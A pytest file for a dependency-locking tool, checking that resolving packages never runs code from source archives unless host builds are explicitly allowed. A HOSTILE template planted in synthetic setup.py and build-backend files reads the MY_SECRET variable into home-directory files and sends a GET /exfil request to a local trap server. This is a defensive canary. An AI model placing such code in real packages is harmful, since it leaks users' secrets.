"""A source archive on the index that wants to run on this machine: nothing of it does, at any verb that only asks."""

from __future__ import annotations

import http.server
import json
import sys
import tarfile
import threading
import time
from collections.abc import Callable, Iterator
from importlib.metadata import version
from pathlib import Path

import pytest

from envbuild import limits
from envbuild.cli import run_cli
from envbuild.resolve.sources import pep517
from tests.project import Project
from tests.resolve.conftest import SyntheticIndex
from tests.support import needs

SECRET = "the-callers-secret"
HOSTILE = """\
import os, pathlib, socket
for home in {{os.path.expanduser("~"), {home!r}}}:
    pathlib.Path(home, "ran").write_text(os.environ.get("MY_SECRET", "no secret"))
socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(b"GET /exfil HTTP/1.0\\r\\n\\r\\n")
"""
SETUP = "from setuptools import setup\nneeds = [name for name in open('names')]\nsetup(install_requires=needs)\n"
BACKEND = """\
def get_requires_for_build_wheel(settings=None):
    return []


def prepare_metadata_for_build_wheel(folder, settings=None):
    raise OSError("never asked")
"""
HERE = f"{sys.version_info.major}.{sys.version_info.minor}.1"
FACTS = {"image": "example/base:1", "python": HERE, "machine": "x86_64", "glibc": "2.36"}


class Trap:
    """A home and a port of which the archives know."""

    def __init__(self, folder: Path) -> None:
        self.home = folder / "home"
        self.home.mkdir(parents=True, exist_ok=True)
        self.asked: list[str] = []
        trap = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                trap.asked.append(self.path)

            def log_message(self, *_: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, args=(0.02,), daemon=True).start()

    @property
    def code(self) -> str:
        """What tells that it ran: a file in every home that it knows, and a request."""
        return HOSTILE.format(home=str(self.home), port=self.server.server_address[1])

    def sprung(self) -> bool:
        return bool(self.asked) or any(self.home.rglob("ran"))


@pytest.fixture
def trap(tmp_path: Path) -> Iterator[Trap]:
    made = Trap(tmp_path)
    yield made
    made.server.shutdown()
    made.server.server_close()


@pytest.fixture
def index(tmp_path: Path, trap: Trap) -> SyntheticIndex:
    """One archive with a setup.py, one with a backend beside its sources, one whose build requirement is such a one."""
    made = SyntheticIndex(tmp_path / "index")
    own = '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n'
    needing = '[build-system]\nrequires = ["backend"]\nbuild-backend = "backend"\n'
    made.sdist("legacy", "1.0", files={"setup.py": trap.code + SETUP, "PKG-INFO": "Name: legacy\n"})
    made.sdist("backend", "1.0", files={"pyproject.toml": own, "own.py": trap.code + BACKEND})
    made.sdist("needing", "1.0", files={"pyproject.toml": needing, "PKG-INFO": "Name: needing\n"})
    for name in ("setuptools", "wheel", "six"):
        made.wheel(name, "70.0")
    made.wheel("uv", version("uv"))
    return made


@pytest.fixture
def verb(
    tmp_path: Path,
    index: SyntheticIndex,
    trap: Trap,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Callable[..., str]:
    """Run a verb where this index is the only one; it has to succeed."""
    for name, value in {
        "HOME": str(trap.home),
        "MY_SECRET": SECRET,
        "ENVBUILD_STORE": str(tmp_path / "store"),
        "ENVBUILD_INDEX": index.url,
        "UV_CACHE_DIR": str(tmp_path / "uv"),
    }.items():
        monkeypatch.setenv(name, value)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "facts.json").write_text(json.dumps(FACTS))
    needed = '["legacy", "needing"]'
    (tmp_path / "x.toml").write_text(
        f'[recipe]\nname = "x"\n[base]\nimage = "example/base:1"\n[python]\ndependencies = {needed}\n'
    )

    def run(*arguments: str) -> str:
        assert run_cli(["-q", *arguments]) == 0
        return capsys.readouterr().out

    return run


@pytest.mark.parametrize("resolver", ["uv", "pip-tools"])
def test_locking_runs_nothing(resolver: str, verb: Callable[..., str], trap: Trap) -> None:
    lock = json.loads(
        verb("lock", "x.toml", "--facts", "facts.json", "--json", "--resolver", resolver)
    )
    assert {"legacy", "needing", "backend"} <= {
        package["name"] for package in [*lock["packages"], *lock["build"]]
    }
    assert not trap.sprung()


def test_what_is_allowed_to_run_sees_no_variables_and_may_write_to_the_home(
    verb: Callable[..., str], trap: Trap
) -> None:
    """The trap is one: with the user's word it springs (docs/resolve.md)."""
    verb("lock", "x.toml", "--facts", "facts.json", "--json", "--allow-host-builds")
    assert trap.asked
    assert (trap.home / "ran").read_text() == "no secret"


def _same_member(member: tarfile.TarInfo, _: str) -> tarfile.TarInfo:
    return member


def test_tarfiles_filter_of_the_host_changes_no_lock(
    tmp_path: Path, verb: Callable[..., str], trap: Trap, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Python 3.11.2 of Debian 12 has none; what may run is asked all the same."""
    locks = []
    for name in ("without", "with"):
        monkeypatch.setenv("ENVBUILD_STORE", str(tmp_path / name))
        monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / f"uv-{name}"))
        if name == "with":
            monkeypatch.setattr(tarfile, "data_filter", _same_member, raising=False)
        else:
            monkeypatch.delattr(tarfile, "data_filter", raising=False)
        trap.asked.clear()
        locks.append(
            verb("lock", "x.toml", "--facts", "facts.json", "--json", "--allow-host-builds")
        )
        assert trap.asked, name
    assert locks[0] == locks[1]


SLEEPING = "import time\ntime.sleep(600)\n"
WITH_BUILDS = ["-q", "lock", "x.toml", "--facts", "facts.json", "--json", "--allow-host-builds"]


def ask_for_sleeper(folder: Path) -> None:
    recipe = folder / "x.toml"
    recipe.write_text(recipe.read_text().replace('["legacy", "needing"]', '["sleeper"]'))


def test_a_build_that_never_ends_is_named(
    tmp_path: Path,
    index: SyntheticIndex,
    verb: Callable[..., str],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    index.sdist(
        "sleeper", "1.0", files={"setup.py": SLEEPING + SETUP, "PKG-INFO": "Name: sleeper\n"}
    )
    ask_for_sleeper(tmp_path)
    monkeypatch.setattr(pep517, "BACKEND_SECONDS", 3.0)
    started = time.monotonic()
    assert run_cli(WITH_BUILDS) == 5
    assert time.monotonic() - started < 60
    said = capsys.readouterr().err
    assert "sleeper: its build backend did not answer within 3 s on this machine" in said
    assert "without --allow-host-builds" in said


def test_a_build_of_uvs_own_that_never_ends_is_named(
    tmp_path: Path,
    index: SyntheticIndex,
    verb: Callable[..., str],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A backend beside its sources needs no tool, so that uv itself comes to run it."""
    project = '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n'
    running = tmp_path / "running"
    told = f"import os, pathlib\npathlib.Path({str(running)!r}).write_text(str(os.getpid()))\n"
    index.sdist("sleeper", "1.0", files={"pyproject.toml": project, "own.py": told + SLEEPING})
    ask_for_sleeper(tmp_path)
    monkeypatch.setattr(limits, "QUESTION_SECONDS", 5.0)
    assert run_cli(WITH_BUILDS) == 5
    said = capsys.readouterr().err
    assert "the build of sleeper==1.0 did not end on this machine" in said
    assert "without --allow-host-builds" in said
    process = Path("/proc", running.read_text(), "cmdline")  # empty once it has ended
    until = time.monotonic() + 60
    while process.exists() and process.read_bytes():
        assert time.monotonic() < until, process.read_bytes()
        time.sleep(0.1)


@pytest.mark.live
@needs("mmdebstrap")
def test_lock_and_why_of_a_real_base_run_nothing(
    tmp_path: Path, index: SyntheticIndex, trap: Trap
) -> None:
    project = Project(tmp_path / "project")
    project.env |= {
        "MY_SECRET": SECRET,
        "ENVBUILD_INDEX": index.url,
        "UV_CACHE_DIR": str(tmp_path / "uv"),
    }
    project.write(
        "recipes/x.toml",
        '[recipe]\nname = "x"\n[base]\nbootstrap = "debian:bookworm"\n[python]\ndependencies = ["legacy", "needing"]\n',
    )
    for arguments in (("lock", "x"), ("why", "legacy", "x")):
        project.succeed(*arguments)
    assert not trap.sprung()
    assert not list(project.home.rglob("ran"))
